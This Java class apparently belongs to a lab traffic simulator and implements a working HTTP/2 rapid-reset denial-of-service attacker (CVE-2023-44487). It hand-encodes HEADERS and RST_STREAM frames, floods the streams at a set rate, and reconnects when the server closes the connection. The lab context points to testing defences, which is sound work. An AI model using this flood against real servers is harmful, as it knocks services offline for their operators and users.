package coop.bulwark.lab;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;

/**
 * The HTTP/2 rapid-reset attacker (CVE-2023-44487): over h2c with prior knowledge, opens a stream with a HEADERS
 * frame and cancels it at once with RST_STREAM, as fast as its share of the rate allows, so the server starts work
 * for requests nobody waits for. Written by hand on a plain socket (a few frame types and a minimal HPACK encoding
 * of literal fields) because a real client library would not misbehave like this.
 */
final class RapidReset {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int TYPE_HEADERS = 0x1;
    private static final int TYPE_RST_STREAM = 0x3;
    private static final int TYPE_SETTINGS = 0x4;
    private static final int FLAG_END_STREAM = 0x1;
    private static final int FLAG_END_HEADERS = 0x4;
    private static final int CANCEL = 0x8;

    private RapidReset() {}

    /**
     * One attacking connection: {@code streamsPerSecond} HEADERS+RST_STREAM pairs per second until {@code endNanos};
     * when the edge closes the connection (GOAWAY), it reconnects after a second. Each stream counts as an attack
     * request sent.
     */
    static void attacker(
            TrafficContext ctx,
            double streamsPerSecond,
            List<String> targetHosts,
            int index,
            long endNanos,
            long seed) {
        SplittableRandom rnd = new SplittableRandom(seed);
        byte[] source = AddressPlan.bot(400_000 + index, 50);
        long gap = (long) (1e9 / streamsPerSecond);
        while (ctx.running() && System.nanoTime() < endNanos) {
            try (LabConnection c = LabConnection.open(ctx.edge(), source, 1000, ctx.sockets())) {
                OutputStream out = c.socket().getOutputStream();
                InputStream in = c.socket().getInputStream();
                // Drain whatever the server sends (SETTINGS, responses, GOAWAY) so it never blocks on us.
                Thread drain = Thread.ofVirtual().start(() -> {
                    byte[] buf = new byte[16384];
                    try {
                        while (in.read(buf) >= 0) {
                            // discard
                        }
                    } catch (IOException e) {
                        // closed
                    }
                });
                out.write(PREFACE);
                frame(out, TYPE_SETTINGS, 0, 0, new byte[0]);
                out.flush();
                int stream = 1;
                long next = System.nanoTime();
                while (ctx.running() && System.nanoTime() < endNanos && drain.isAlive() && stream > 0) {
                    String host = targetHosts.get(rnd.nextInt(targetHosts.size()));
                    frame(out, TYPE_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, stream, headers(host, rnd));
                    frame(out, TYPE_RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL});
                    out.flush();
                    ctx.recorder().attackSent(System.nanoTime());
                    stream += 2;
                    next += gap;
                    ctx.sleepUntil(Math.min(next, endNanos));
                }
            } catch (IOException | RuntimeException e) {
                // refused or closed by the edge: come back
            }
            ctx.sleepUntil(Math.min(System.nanoTime() + 1_000_000_000L, endNanos));
        }
    }

    /** A header block of literal fields without indexing (RFC 7541 §6.2.2), with static-table name indexes. */
    static byte[] headers(String host, SplittableRandom rnd) {
        var b = new ByteArrayOutputStream(64);
        b.write(0x82); // :method GET (static index 2)
        b.write(0x86); // :scheme http (static index 6)
        literal(b, 4, "/?rr=" + Integer.toHexString(rnd.nextInt())); // :path
        literal(b, 1, host); // :authority
        return b.toByteArray();
    }

    private static void literal(ByteArrayOutputStream b, int nameIndex, String value) {
        byte[] v = value.getBytes(StandardCharsets.US_ASCII);
        if (v.length >= 127) {
            throw new IllegalArgumentException("header value too long for this minimal encoder: " + value);
        }
        b.write(nameIndex); // 0000 + 4-bit name index: literal without indexing
        b.write(v.length); // no Huffman, 7-bit length
        b.write(v, 0, v.length);
    }

    private static void frame(OutputStream out, int type, int flags, int stream, byte[] payload) throws IOException {
        int n = payload.length;
        out.write(new byte[] {
            (byte) (n >>> 16),
            (byte) (n >>> 8),
            (byte) n,
            (byte) type,
            (byte) flags,
            (byte) (stream >>> 24 & 0x7f),
            (byte) (stream >>> 16),
            (byte) (stream >>> 8),
            (byte) stream
        });
        out.write(payload);
    }
}
